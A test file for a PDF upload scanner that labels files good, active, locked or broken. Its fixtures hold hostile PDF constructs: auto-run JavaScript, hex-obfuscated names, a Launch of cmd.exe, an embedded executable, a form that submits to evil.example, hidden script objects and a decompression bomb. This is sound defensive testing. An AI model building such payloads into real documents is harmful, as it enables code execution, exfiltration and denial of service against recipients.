import { describe, expect, it } from 'vitest';
import { readPdf } from '#server/uploads/read-pdf.ts';
import { aPackedStream, aPdfFile } from '#tests/support/pdf-file.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('a PDF', () => {
  it('is good when it opens and does nothing', async () => {
    expect(await readPdf(aPdfFile())).toBe('good');
    expect(await readPdf(aPdfFile({ catalogue: '/OpenAction [3 0 R /Fit]' }))).toBe('good');
  });

  it('is good up to ten megabytes', async () => {
    const file = aPdfFile({ bytes: 10 * 1024 * 1024 });
    expect([file.length, await readPdf(file)]).toEqual([10 * 1024 * 1024, 'good']);
  });

  it.each<[string, Parameters<typeof aPdfFile>[0]]>([
    ['a script when it opens', { catalogue: '/OpenAction 4 0 R', objects: [script] }],
    ['a script under a name that is spelled in numbers', { catalogue: '/OpenAction << /S /Java#53cript >>' }],
    ['scripts by name', { catalogue: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [script] }],
    ['a rendition that runs one', { objects: ['<< /S /Rendition /JS (x) >>'] }],
    ['a program to start', { objects: ['<< /Type /Action /S /Launch /F (cmd.exe) >>'] }],
    [
      'a file in it',
      { objects: ['<< /Type /Filespec /EF << /F 5 0 R >> >>', aPackedStream('/Type /EmbeddedFile', 'MZ')] },
    ],
    ['a form that is sent', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }],
    ['a form of the other kind', { catalogue: '/AcroForm << /XFA (x) >>' }],
    ['a script among packed objects', { objects: [aPackedStream(`/Type /ObjStm /N 1 /First 4`, `9 0 ${script}`)] }],
  ])('is active with %s', async (_, made) => expect(await readPdf(aPdfFile(made))).toBe('active'));

  it('is active with an object that a newer one only hides', async () => {
    const file = aPdfFile({ objects: [script] }).toString('latin1');
    const hidden = file.replace('xref\n', '4 0 obj\n<< >>\nendobj\nxref\n');
    expect(await readPdf(Buffer.from(hidden, 'latin1'))).toBe('active');
  });

  it('is locked with a password', async () => {
    const encrypt = '<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>';
    expect(await readPdf(aPdfFile({ objects: [encrypt], trailer: '/Encrypt 4 0 R /ID [(a) (a)]' }))).toBe('locked');
  });

  it.each([
    ['a head and an end alone', Buffer.from('%PDF-1.7\n%%EOF\n')],
    [
      'no pages',
      Buffer.from(aPdfFile().toString('latin1').replace('/Kids [3 0 R] /Count 1', '/Kids [] /Count 0'), 'latin1'),
    ],
    ['a text', Buffer.from('%PDF-1.7 Dear committee, %%EOF')],
  ])('is broken with %s', async (_, file) => expect(await readPdf(file)).toBe('broken'));

  it('that unpacks without an end is given up, and the next one is read', async () => {
    const bomb = aPackedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(700 * 1024 * 1024, 0x20));
    const started = Date.now();
    expect(await readPdf(aPdfFile({ objects: [bomb] }))).toBe('broken');
    expect(Date.now() - started).toBeLessThan(25_000);
    expect(await readPdf(aPdfFile())).toBe('good');
  });
});
